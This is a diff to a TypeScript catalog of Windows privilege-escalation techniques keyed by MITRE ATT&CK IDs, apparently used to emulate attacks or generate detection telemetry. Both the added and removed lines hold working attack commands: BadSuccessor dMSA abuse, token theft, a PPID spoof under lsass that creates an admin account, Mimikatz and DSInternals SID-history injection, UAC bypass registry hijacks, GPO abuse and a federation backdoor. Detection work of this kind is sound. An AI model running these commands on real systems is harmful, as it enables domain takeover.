@@ -77,6 +77,14 @@ export const privilegeEscalation = [
     v("listplanting", [{ cmd: "{{tmp}}\\{{name}}.exe", access: ["@explorer", "0x1f0fff"] }]),
   ]),
   t("T1068", "Privilege escalation exploit", "A local exploit (PrintNightmare, potato) giving SYSTEM.", [
+    // BadSuccessor (Windows Server 2025 dMSA): with CreateChild on an OU, SharpSuccessor creates a dMSA that
+    // "succeeds" a Domain Admin, and the dMSA's ticket then carries that admin's privileges.
+    v("badsuccessor", [
+      {
+        cmd: '{{tools}}\\SharpSuccessor.exe add /impersonate:Administrator /path:"OU={{Staging|Temp|Servers}},{{domaindn}}" /account:{{user}} /name:{{name}}_dmsa',
+        net: [["@dc", 389]],
+      },
+    ]),
     v("potato", [
       { cmd: "{{tools}}\\PrintSpoofer64.exe -i -c cmd.exe", as: "p", pipes: ["\\{{rand}}\\pipe\\spoolss"] },
       { cmd: "cmd.exe", parent: "p", user: "@system" },
@@ -103,9 +111,28 @@ export const privilegeEscalation = [
       ['{{tools}}\\mimikatz.exe "privilege::debug" "token::elevate" "token::whoami" exit'],
       { elevated: true },
     ),
+    // SharpImpersonation duplicates the token of a process the admin runs and starts a shell with it.
+    v(
+      "sharpimpersonation",
+      [
+        {
+          cmd: '{{tools}}\\SharpImpersonation.exe user:"{{domain}}\\{{admin}}" binary:"cmd.exe"',
+          access: ["@explorer", "0x1400"],
+          as: "si",
+        },
+        { cmd: "cmd.exe", parent: "si", user: "@admin" },
+      ],
+      { elevated: true },
+    ),
     v("incognito", ['{{tools}}\\incognito.exe execute -c "{{domain}}\\{{admin}}" cmd.exe'], {
       elevated: true,
     }),
+    // GhostPack Koh keeps the tokens of every new logon session and hands them out over its named pipe.
+    v(
+      "koh-capture",
+      [{ cmd: "{{tools}}\\Koh.exe capture", pipes: ["\\imposecost"], keep: true }],
+      { elevated: true },
+    ),
     v("psexec-system", [{ cmd: "{{tools}}\\PsExec64.exe -accepteula -s -i cmd.exe", as: "p" }], {
       elevated: true,
     }),
@@ -115,11 +142,13 @@ export const privilegeEscalation = [
     "Create process with token",
     "runas / Start-Process -Credential starting a process as another user.",
     [
+      // The Secondary Logon service (seclogon, in svchost) creates the process under the other account.
       v("runas", [
         {
-          cmd: 'runas /user:{{domain}}\\{{admin}} "cmd.exe /c whoami > {{tmp}}\\w.txt"',
+          cmd: "runas /user:{{domain}}\\{{admin}} cmd.exe",
           then: [{ id: "e", kind: "credentials.explicit", targetUser: "@admin", targetServer: "localhost" }],
         },
+        { cmd: "cmd.exe", parent: "@svchost:netsvcs", user: "@admin" },
       ]),
       v(
         "start-process-credential",
@@ -157,13 +186,43 @@ export const privilegeEscalation = [
   t(
     "T1134.004",
     "Parent PID spoofing",
-    "A process started with a spoofed parent (e.g. under explorer or svchost).",
+    "A process started with PROC_THREAD_ATTRIBUTE_PARENT_PROCESS: it gets the chosen parent and, with it, that parent's token.",
     [
+      // decoder-it psgetsys.ps1: a child of lsass inherits SYSTEM; the operator then works in that shell.
+      v(
+        "psgetsys-lsass",
+        [
+          {
+            ps: '. {{tools}}\\psgetsys.ps1; [MyProcess]::CreateProcessFromParent((Get-Process lsass).Id,"C:\\Windows\\System32\\cmd.exe","")',
+            access: ["@lsass", "0x1fffff"],
+          },
+          { cmd: "C:\\Windows\\System32\\cmd.exe", parent: "@lsass", as: "sys" },
+          { cmd: "net user {{name}} Winter2025! /add", parent: "sys" },
+          { cmd: "net localgroup administrators {{name}} /add", parent: "sys" },
+        ],
+        { shell: "ps", elevated: true },
+      ),
+      // Atomic T1134.004 #4: Start-ATHProcessUnderSpecificParent with the first svchost as parent (SYSTEM).
+      v(
+        "ath-svchost",
+        [
+          {
+            ps: "Get-CimInstance -ClassName Win32_Process -Property Name, CommandLine, ProcessId -Filter \"Name = 'svchost.exe' AND CommandLine LIKE '%'\" | Select-Object -First 1 | Start-ATHProcessUnderSpecificParent -FilePath $Env:windir\\System32\\WindowsPowerShell\\v1.0\\powershell.exe -CommandLine '-Command Start-Sleep 10'",
+            access: ["@svchost:DcomLaunch", "0x80"],
+          },
+          {
+            cmd: '"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe" -Command Start-Sleep 10',
+            parent: "@svchost:DcomLaunch",
+          },
+        ],
+        { shell: "ps", elevated: true },
+      ),
       v(
         "ppid-spoof",
         [
           {
             ps: "Start-ATHProcessUnderSpecificParent -FilePath C:\\Windows\\System32\\cmd.exe -ParentId (Get-Process explorer).Id",
+            access: ["@explorer", "0x80"],
           },
           { cmd: "C:\\Windows\\System32\\cmd.exe", parent: "@explorer" },
         ],
@@ -172,171 +231,64 @@ export const privilegeEscalation = [
       v(
         "selectmyparent",
         [
-          { cmd: "{{tools}}\\SelectMyParent.exe notepad.exe {pid:@lsass}" },
+          { cmd: "{{tools}}\\SelectMyParent.exe notepad.exe {pid:@lsass}", access: ["@lsass", "0x1fffff"] },
           { cmd: "notepad.exe", parent: "@lsass" },
         ],
         { elevated: true },
       ),
     ],
   ),
-  t("T1134.005", "SID-history injection", "sIDHistory added with Mimikatz sid::add.", [
-    v(
-      "mimikatz-sid",
-      [
-        '{{tools}}\\mimikatz.exe "privilege::debug" "sid::patch" "sid::add /sam:{{user}} /new:S-1-5-21-{{n}}-512" exit',
-      ],
-      { elevated: true, user: "@admin" },
-    ),
-  ]),
-  t("T1484", "Domain or tenant policy modification", "GPOs or trusts changed to push code.", [
-    v(
-      "new-gpo",
-      [{ ps: "New-GPO -Name '{{name}}' | New-GPLink -Target 'DC={{domain}},DC=local'", net: [["@dc", 445]] }],
-      { shell: "ps", user: "@admin" },
-    ),
-  ]),
   t(
-    "T1484.001",
-    "Group policy modification",
-    "A scheduled task or script pushed through a GPO (SharpGPOAbuse, direct SYSVOL writes).",
+    "T1134.005",
+    "SID-history injection",
+    "sIDHistory written on a DC: Mimikatz sid::patch + sid::add over LDAP (4738 with SidHistory), or DSInternals offline.",
     [
       v(
-        "sharpgpoabuse",
+        "mimikatz-sid-add",
         [
           {
-            cmd: '{{tools}}\\SharpGPOAbuse.exe --AddComputerTask --TaskName "{{name}}" --Author {{domain}}\\{{admin}} --Command "cmd.exe" --Arguments "/c \\\\{{srv}}\\share\\{{rand}}.exe" --GPOName "Default Domain Policy"',
-            net: [["@dc", 445]],
+            cmd: 'cmd.exe /Q /c C:\\Windows\\Temp\\mimikatz.exe "privilege::debug" "sid::patch" "sid::add /sam:{{user}} /new:{{dsid}}-512" exit 1> \\\\127.0.0.1\\ADMIN$\\__{{n}}.{{rand}} 2>&1',
+            as: "c",
+            host: "@dc",
+            parent: "@wmiprvse",
+            user: "@admin",
+          },
+          {
+            cmd: 'C:\\Windows\\Temp\\mimikatz.exe  "privilege::debug" "sid::patch" "sid::add /sam:{{user}} /new:{{dsid}}-512" exit',
+            as: "mk",
+            parent: "c",
+            host: "@dc",
+            access: ["@lsass", "0x1438"],
+            net: [["@dc", 389]],
+            then: [
+              {
+                id: "sidh",
+                proc: "mk",
+                kind: "directory.change",
+                host: "@dc",
+                object: "{{user}}",
+                objectClass: "user",
+                changes: [{ attribute: "sIDHistory", value: "{{dsid}}-512" }],
+              },
+            ],
           },
         ],
-        { user: "@admin" },
+        { shell: "none", needs: ["domain admin on a domain controller"] },
       ),
+      // DSInternals edits ntds.dit offline: no directory audit, only the service stop and the script.
       v(
-        "sysvol-write",
+        "dsinternals-offline",
         [
           {
-            cmd: "cmd.exe /c copy {{tmp}}\\ScheduledTasks.xml \\\\{{dcfqdn}}\\SYSVOL\\{{dns}}\\Policies\\{31B2F340-016D-11D2-945F-00C04FB984F9}\\Machine\\Preferences\\ScheduledTasks\\",
-            net: [["@dc", 445]],
+            cmd: 'powershell.exe -NoP -C "Stop-Service ntds -Force; Add-ADDBSidHistory -SamAccountName {{user}} -SidHistory {{dsid}}-512 -DatabasePath C:\\Windows\\NTDS\\ntds.dit -Force; Start-Service ntds"',
+            host: "@dc",
+            parent: "@wmiprvse",
+            user: "@admin",
+            reads: ["C:\\Windows\\NTDS\\ntds.dit"],
           },
         ],
-        { user: "@admin" },
+        { shell: "none", needs: ["domain admin on a domain controller"] },
       ),
-    ],
-  ),
-  t(
-    "T1484.002",
-    "Trust modification",
-    "Federation settings changed (Set-MsolDomainFederationSettings) or a new trust added.",
-    [
-      v("netdom", ["netdom trust {{dns}} /domain:evil.local /add /realm /passwordt:P@ss{{n}}"], {
-        user: "@admin",
-      }),
-      v("aadinternals", [{ ps: "ConvertTo-AADIntBackdoor -DomainName {{dns}}" }], { shell: "ps" }),
-    ],
-  ),
-  t("T1548", "Abuse elevation control", "UAC bypass through an auto-elevating binary.", [
-    v("fodhelper", [
-      {
-        cmd: 'reg add HKCU\\Software\\Classes\\ms-settings\\Shell\\Open\\command /d "cmd.exe /c {{tmp}}\\{{rand}}.exe" /f',
-        reg: [
-          [
-            "HKCU\\Software\\Classes\\ms-settings\\Shell\\Open\\command",
-            "(Default)",
-            "cmd.exe /c {{tmp}}\\{{rand}}.exe",
-          ],
-        ],
-      },
-      "fodhelper.exe",
-    ]),
-  ]),
-  t(
-    "T1548.002",
-    "Bypass UAC",
-    "fodhelper/ms-settings, eventvwr/mscfile and sdclt hijacks that start a payload at High integrity.",
-    [
-      v("fodhelper", [
-        {
-          cmd: "reg add HKCU\\Software\\Classes\\ms-settings\\Shell\\Open\\command /v DelegateExecute /t REG_SZ /f",
-          reg: [["HKCU\\Software\\Classes\\ms-settings\\Shell\\Open\\command", "DelegateExecute", ""]],
-        },
-        {
-          cmd: 'reg add HKCU\\Software\\Classes\\ms-settings\\Shell\\Open\\command /d "C:\\Windows\\System32\\cmd.exe /c start {{tmp}}\\{{rand}}.exe" /f',
-          reg: [
-            [
-              "HKCU\\Software\\Classes\\ms-settings\\Shell\\Open\\command",
-              "(Default)",
-              "C:\\Windows\\System32\\cmd.exe /c start {{tmp}}\\{{rand}}.exe",
-            ],
-          ],
-        },
-        { cmd: "C:\\Windows\\System32\\fodhelper.exe", as: "fod", elevated: true },
-        { cmd: "C:\\Windows\\System32\\cmd.exe /c start {{tmp}}\\{{rand}}.exe", parent: "fod" },
-      ]),
-      v(
-        "eventvwr",
-        [
-          {
-            ps: "New-Item 'HKCU:\\Software\\Classes\\mscfile\\shell\\open\\command' -Force; Set-ItemProperty 'HKCU:\\Software\\Classes\\mscfile\\shell\\open\\command' -Name '(default)' -Value 'C:\\Windows\\System32\\cmd.exe' -Force",
-            reg: [
-              [
-                "HKCU\\Software\\Classes\\mscfile\\shell\\open\\command",
-                "(Default)",
-                "C:\\Windows\\System32\\cmd.exe",
-              ],
-            ],
-          },
-          {
-            cmd: "C:\\Windows\\System32\\eventvwr.msc",
-            image: "C:\\Windows\\System32\\eventvwr.exe",
-            as: "ev",
-            parent: "sh",
-            elevated: true,
-          },
-          { cmd: '"C:\\Windows\\System32\\cmd.exe"', parent: "ev" },
-        ],
-        { shell: "ps" },
-      ),
-      v("sdclt", [
-        {
-          cmd: 'reg add "HKCU\\Software\\Classes\\Folder\\shell\\open\\command" /d "cmd.exe /c {{tmp}}\\{{rand}}.exe" /f',
-          reg: [
-            [
-              "HKCU\\Software\\Classes\\Folder\\shell\\open\\command",
-              "(Default)",
-              "cmd.exe /c {{tmp}}\\{{rand}}.exe",
-            ],
-          ],
-        },
-        {
-          cmd: 'reg add "HKCU\\Software\\Classes\\Folder\\shell\\open\\command" /v DelegateExecute /f',
-          reg: [["HKCU\\Software\\Classes\\Folder\\shell\\open\\command", "DelegateExecute", ""]],
-        },
-        { cmd: "sdclt.exe", as: "sd", elevated: true },
-        { cmd: "cmd.exe /c {{tmp}}\\{{rand}}.exe", parent: "sd" },
-      ]),
-      v("computerdefaults", [
-        {
-          cmd: 'reg add HKCU\\Software\\Classes\\ms-settings\\shell\\open\\command /d "{{tmp}}\\{{rand}}.exe" /f',
-          reg: [
-            [
-              "HKCU\\Software\\Classes\\ms-settings\\shell\\open\\command",
-              "(Default)",
-              "{{tmp}}\\{{rand}}.exe",
-            ],
-          ],
-        },
-        { cmd: "C:\\Windows\\System32\\ComputerDefaults.exe", as: "cd", elevated: true },
-        { cmd: "{{tmp}}\\{{rand}}.exe", parent: "cd" },
-      ]),
-    ],
-  ),
-  t(
-    "T1611",
-    "Escape to host",
-    "A container breakout seen as a host process started by the container runtime.",
-    [
-      v("docker-mount", [
-        '"C:\\Program Files\\Docker\\Docker\\resources\\bin\\docker.exe" run --rm -v C:\\:/host --privileged alpine chroot /host',
-      ]),
     ],
   ),
 ];
